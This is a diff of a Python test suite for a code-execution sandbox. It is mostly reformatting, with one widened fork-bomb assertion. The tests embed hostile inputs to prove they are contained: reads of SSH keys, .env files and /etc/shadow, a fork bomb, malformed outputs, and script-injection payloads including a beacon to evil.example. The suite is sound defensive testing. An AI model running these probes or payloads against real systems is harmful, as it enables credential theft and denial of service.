@@ -309,7 +309,7 @@ for top in os.listdir("/"):
                         os.close(h)
             except OSError:
                 pass
-visible = [p for p in (home, home + "/.ssh/id_rsa", {str(world.user / '.env')!r}, "/sandbox/work/.env",
+visible = [p for p in (home, home + "/.ssh/id_rsa", {str(world.user / ".env")!r}, "/sandbox/work/.env",
            "/sandbox/work/sub/.git/config", "/etc/shadow", "/root/.ssh", "/run")
            if os.path.exists(p) and tries(lambda: open(p, "rb").read() if os.path.isfile(p) else os.listdir(p))]
 fds = {{fd: os.readlink(f"/proc/self/fd/{{fd}}") for fd in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{{fd}}")}}
@@ -317,7 +317,15 @@ print(json.dumps({{"hits": hits, "visible": visible, "fds": fds}}))
 """,
     )
     assert report["hits"] == [] and report["visible"] == [], report
-    allowed = ("socket:", "pipe:", "anon_inode:", "/dev/null", "/proc/", "/sandbox/", "mnt:")  # mnt: an earlier attack
+    allowed = (
+        "socket:",
+        "pipe:",
+        "anon_inode:",
+        "/dev/null",
+        "/proc/",
+        "/sandbox/",
+        "mnt:",
+    )  # mnt: an earlier attack
     odd = {fd: target for fd, target in report["fds"].items() if not target.startswith(allowed)}
     assert odd == {}, odd
 
@@ -331,7 +339,9 @@ def test_kernel_holds_no_descriptor_of_the_parent(sandbox: Sandbox) -> None:
     for pid in children:
         for fd in Path(f"/proc/{pid}/fd").iterdir():
             target = os.readlink(fd)
-            assert target.startswith(("socket:", "pipe:", "anon_inode:", "/dev/null", "/sandbox", "/proc", "mnt:")), target
+            assert target.startswith(
+                ("socket:", "pipe:", "anon_inode:", "/dev/null", "/sandbox", "/proc", "mnt:")
+            ), target
             assert target not in mine or target.startswith("pipe:"), target
 
 
@@ -457,7 +467,10 @@ def _hostile_export(body: str) -> str:
             "    except OSError:\n        pass\n"
             "    return json.dumps({'x': {'kind': 'frame'}})",
         ),
-        ("fifo", "    os.mkfifo(directory + '/out-x.arrow')\n    return json.dumps({'x': {'kind': 'frame'}})"),
+        (
+            "fifo",
+            "    os.mkfifo(directory + '/out-x.arrow')\n    return json.dumps({'x': {'kind': 'frame'}})",
+        ),
         (
             "a billion null rows",
             "    import pyarrow as pa\n    t = pa.table({'c0': pa.nulls(10**9)}).replace_schema_metadata("
@@ -473,14 +486,25 @@ def _hostile_export(body: str) -> str:
             "    with pa.OSFile(directory + '/out-x.arrow', 'wb') as f, pa.ipc.new_file(f, t.schema) as w:\n"
             "        w.write_table(t)\n    return json.dumps({'x': {'kind': 'frame'}})",
         ),
-        ("not arrow at all", "    open(directory + '/out-x.arrow', 'wb').write(os.urandom(4096))\n    return json.dumps({'x': {'kind': 'frame'}})"),
-        ("huge integer", "    return json.dumps({'x': {'kind': 'scalar', 'json': {'type': 'int', 'value': 10**4000}}})"),
-        ("wrong types", "    return json.dumps({'x': {'kind': 'scalar', 'json': {'type': 'timestamp', 'value': [1] * 10}}})"),
+        (
+            "not arrow at all",
+            "    open(directory + '/out-x.arrow', 'wb').write(os.urandom(4096))\n    return json.dumps({'x': {'kind': 'frame'}})",
+        ),
+        (
+            "huge integer",
+            "    return json.dumps({'x': {'kind': 'scalar', 'json': {'type': 'int', 'value': 10**4000}}})",
+        ),
+        (
+            "wrong types",
+            "    return json.dumps({'x': {'kind': 'scalar', 'json': {'type': 'timestamp', 'value': [1] * 10}}})",
+        ),
         ("not json", "    return 'not json {'"),
         ("deep nesting", "    return '[' * 100000"),
     ],
 )
-def test_the_parent_does_not_trust_what_comes_back(sandbox: Sandbox, name: str, body: str, unchanged: None) -> None:
+def test_the_parent_does_not_trust_what_comes_back(
+    sandbox: Sandbox, name: str, body: str, unchanged: None
+) -> None:
     result = sandbox.run(_hostile_export(body))
     assert result.ok, result.traceback
     started = time.monotonic()
@@ -518,7 +542,7 @@ def test_script_in_outputs_is_removed(sandbox: Sandbox) -> None:
     result = sandbox.run(
         "from IPython.display import display, HTML, Javascript, Markdown, SVG\n"
         "display(HTML('<b>bold</b><script>window.pwned=1</script><img src=x onerror=\"window.pwned=2\">'"
-        "'<img src=\"https://evil.example/?leak=1\"><a href=\"javascript:alert(1)\">x</a>'))\n"
+        '\'<img src="https://evil.example/?leak=1"><a href="javascript:alert(1)">x</a>\'))\n'
         "display(Javascript('window.pwned = 3'))\n"
         "display(Markdown('![x](https://evil.example/beacon.png) text'))\n"
         "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.pwned=4</script></svg>'))\n"
@@ -591,8 +615,12 @@ def test_memory_and_time_limits(sandbox: Sandbox, unchanged: None) -> None:
 
 
 def test_fork_bomb_is_contained(sandbox: Sandbox, unchanged: None) -> None:
-    result = sandbox.run("import os\nfor _ in range(100000):\n    try:\n        os.fork()\n    except OSError:\n        break")
-    assert result.error_name in ("LeftoverProcesses", "KernelDied", "TimeoutError"), result
+    result = sandbox.run(
+        "import os\nfor _ in range(100000):\n    try:\n        os.fork()\n    except OSError:\n        break"
+    )
+    # Forked copies of the kernel share its sockets, so under load their writes can also garble the reply
+    # stream (OutputTooLarge); whichever way it ends, what follows must hold.
+    assert result.error_name in ("LeftoverProcesses", "KernelDied", "TimeoutError", "OutputTooLarge"), result
     assert sandbox.run("print(1)").text() == "1\n"
     assert sandbox._process is not None and len(sandbox._process.processes()) <= 2  # nothing left running
 
@@ -600,7 +628,9 @@ def test_fork_bomb_is_contained(sandbox: Sandbox, unchanged: None) -> None:
 def test_background_cpu_after_the_run_restarts_the_sandbox(sandbox: Sandbox) -> None:
     sandbox.send_frames({"df": pd.DataFrame({"a": [1, 2]})})
     started = sandbox.kernel.starts
-    sandbox.run("import threading\ndef burn():\n    while True:\n        pass\nthreading.Thread(target=burn, daemon=True).start()")
+    sandbox.run(
+        "import threading\ndef burn():\n    while True:\n        pass\nthreading.Thread(target=burn, daemon=True).start()"
+    )
     deadline = time.monotonic() + 30
     while sandbox.kernel.alive and time.monotonic() < deadline:
         time.sleep(0.5)
